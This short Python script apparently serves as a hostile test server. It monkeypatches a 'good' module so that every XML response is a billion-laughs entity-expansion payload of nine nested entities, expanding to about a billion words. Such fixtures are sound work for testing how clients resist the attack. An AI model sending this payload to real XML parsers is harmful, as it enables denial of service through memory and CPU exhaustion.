"""Answers with XML whose entities become a billion words."""

import good

LEVELS = "".join("<!ENTITY a%d '%s'>" % (each + 1, "&a%d;" % each * 10) for each in range(9))
BODY = f"<!DOCTYPE catalog [<!ENTITY a0 'ha'>{LEVELS}]><catalog>&a9;</catalog>".encode()


def to_xml(root, media_type="application/xml"):
    return 200, media_type, BODY


good.to_xml = to_xml
good.main()
